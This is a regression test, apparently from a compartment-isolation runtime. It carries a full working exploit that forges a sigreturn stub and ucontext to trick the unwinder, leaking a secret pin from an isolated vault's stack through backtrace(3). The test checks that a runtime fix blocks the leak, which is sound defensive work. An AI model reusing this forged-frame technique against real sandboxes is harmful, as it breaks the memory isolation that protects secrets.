// Review 77b, attacker model B (the default domain's code: its own stack
// for a call into the vault, its own pages, fork).
// What: the runtime's own walks with a compartment's rights (backtrace(3),
// unwind.c) still take a frame with no FDE to libgcc_s's fallback
// (runtime/unwind-find.c, no_fde answers none while a walk is under way),
// which takes the frame for a signal frame when the code at its return
// address is the sigreturn stub, and then takes every register of the next
// frame from the ucontext above it: key-0 memory where that frame is the
// default domain's. backtrace(3) walks on past the vault's entry into its
// caller's frames (trace_step stops at no trampoline). So the caller of
// a vault function that logs its backtrace chooses the next frame's rsp
// (a word of the vault's stack) and rip (a function's first instruction,
// libc's write: its CFA is rsp + 8): the unwinder reads that word of the
// vault's stack as the frame's return address (the checked copy lets it:
// the frame's stack pointer and the word are both in the vault's arena),
// and backtrace(3) hands it out as a return address. The fallback reads a
// byte at that address first, so a word that is no readable address
// kills the process instead; the program maps a readable page there.
// How: the vault's vault_check keeps its pin (0x31337) in a local and, on
// a wrong guess, writes its backtrace (an honest diagnostic). The program
// calls it on a stack of its own whose return address is a page holding
// the stub's bytes (never run), with a ucontext above it: rip write's
// first instruction, rsp a word of the vault's stack. It does not know
// where the pin lies: one fork per candidate word below the top of the
// vault's first stack; each child's output comes back through a pipe.
// Modes: "plain" (an ordinary call: code addresses only, up to _start);
// "control" (the same frames, zeros in place of the stub: the walk ends
// there, nothing of the vault's comes back).
// Seen in the guest (LLVM 19, -O2) on main at c3568ac: the pin came back
// from the 35th candidate word (the vault's stack addresses and return
// addresses from others): ATTACK SUCCEEDED, 3 of 3; control 256
// candidates, nothing; plain six frames.
// Fixed (runtime/unwind.c, backtrace): with a compartment's rights its
// walk ends at a frame on the compartment's memory whose registers came
// from a signal frame off it (every other way back onto its memory is a
// checked CFA). Seen after: each candidate's trace ends at the stub's
// page, 256 candidates, nothing, 3 of 3; plain and control as before;
// exceptions-sigframe.cpp (backtrace from a handler through the kernel's
// signal frame) and backtrace-compartment-frames.c pass.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
// RUN: %run %t plain 2>&1 | FileCheck %s --check-prefix=PLAIN
// RUN: %run %t control 2>&1 | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t 2>&1 | FileCheck %s
// PLAIN: trace
// PLAIN: program ends
// CONTROL: stack of the vault's found
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: candidates tried: 256
// CONTROL: program ends
// CHECK: stack of the vault's found
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: candidates tried: 256
// CHECK: program ends
#include <bulkhead.h>
#include <execinfo.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

BULKHEAD_DATA(vault) long vault_pin = 0x31337;

extern "C" BULKHEAD_ENTRY(vault) int vault_check(long guess) {
  volatile long pin = vault_pin;
  if (guess == pin)
    return 1;
  void *bt[16];
  int n = backtrace(bt, 16);
  char line[48];
  for (int i = 0; i < n; i++) {
    int k = snprintf(line, sizeof line, "trace %#lx\n", (unsigned long)bt[i]);
    if (write(1, line, (size_t)k) != k)
      break;
  }
  return 0;
}

static const unsigned char STUB[] = {0x48, 0xc7, 0xc0, 0x0f, 0x00,
                                     0x00, 0x00, 0x0f, 0x05};
static const long PAGE = 4096;

/* Enters fn(arg) at sp, whose word is the return address. */
extern "C" void pivot(uintptr_t sp, long arg, void *fn);
__asm__(".text\n.globl pivot\n.type pivot,@function\npivot:\n"
        "\tmovq %rdi, %rsp\n\tmovq %rsi, %rdi\n"
        "\tjmp *%rdx\n.size pivot, .-pivot\n");

static char *code, *stack; /* the stub's page; the pivot's stack (2 pages) */

/* In a child: the call with the forged frame, rsp = a. */
static void attack(uintptr_t a, int stub) {
  memcpy(code, stub ? STUB : (const unsigned char *)"\0\0\0\0\0\0\0\0\0", 9);
  char *p = stack + PAGE;
  *(uintptr_t *)(p - 8) = (uintptr_t)code;
  ucontext_t *uc = (ucontext_t *)p;
  memset(uc, 0, sizeof *uc);
  uc->uc_mcontext.gregs[REG_RIP] = (uintptr_t)write;
  uc->uc_mcontext.gregs[REG_RSP] = a;
  pivot((uintptr_t)p - 8, 1, (void *)vault_check);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *mode = argc > 1 ? argv[1] : "attack";
  if (!strcmp(mode, "plain")) {
    vault_check(1);
    printf("program ends\n");
    return 0;
  }
  int stub = strcmp(mode, "control") != 0;
  code = (char *)mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  stack = (char *)mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  /* Readable pages where small words point: the fallback reads a byte at
   * the word it takes for a return address. */
  char *low = (char *)mmap((void *)0x10000, 0x1000000 - 0x10000, PROT_READ,
                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE,
                           -1, 0);
  if (code == MAP_FAILED || stack == MAP_FAILED || low == MAP_FAILED) {
    perror("mmap");
    return 1;
  }
  vault_check(1); /* the vault's first stack is this thread's now */
  uintptr_t desc;
  __asm__("leaq __bulkhead_domain.vault(%%rip), %0" : "=r"(desc));
  uintptr_t lo = *(uintptr_t *)(desc + 40);
  /* The vault's stack this thread holds: the owner table (read-only, the
   * stack's holder's id; the vault is the one compartment, row 0). */
  const uint32_t *owners;
  __asm__("leaq __bulkhead_stack_owners(%%rip), %0" : "=r"(owners));
  uint32_t me = (uint32_t)gettid();
  int i = 0;
  while (i < 512 && owners[i] != me)
    i++;
  if (i == 512) {
    printf("no stack of the vault's found\n");
    return 1;
  }
  uintptr_t top = lo + (uintptr_t)(i + 1) * 1048576 - 64; /* its fresh top */
  printf("stack of the vault's found\n");
  int tried = 0, found = 0;
  for (uintptr_t a = top - 8; a >= top - 2048 && !found; a -= 8) {
    int fd[2];
    if (pipe(fd))
      return 1;
    pid_t pid = fork();
    if (pid == 0) {
      close(fd[0]);
      dup2(fd[1], 1);
      attack(a, stub);
      _exit(0);
    }
    close(fd[1]);
    char buf[4096];
    size_t n = 0;
    ssize_t k;
    while (n < sizeof buf - 1 &&
           (k = read(fd[0], buf + n, sizeof buf - 1 - n)) > 0)
      n += (size_t)k;
    buf[n] = 0;
    close(fd[0]);
    waitpid(pid, NULL, 0);
    tried++;
    for (char *s = strstr(buf, "trace "); s; s = strstr(s + 1, "trace ")) {
      unsigned long v = strtoul(s + 6, NULL, 16);
      if (v == 0x31337) {
        printf("ATTACK SUCCEEDED: the vault's pin %#lx, read at %#lx of its "
               "stack, came back in its backtrace\n", v, (unsigned long)a);
        found = 1;
      }
    }
    if (getenv("DEBUG") && n)
      printf("a=%#lx:\n%s", (unsigned long)a, buf);
  }
  printf("candidates tried: %d\n", tried);
  printf("program ends\n");
  return 0;
}
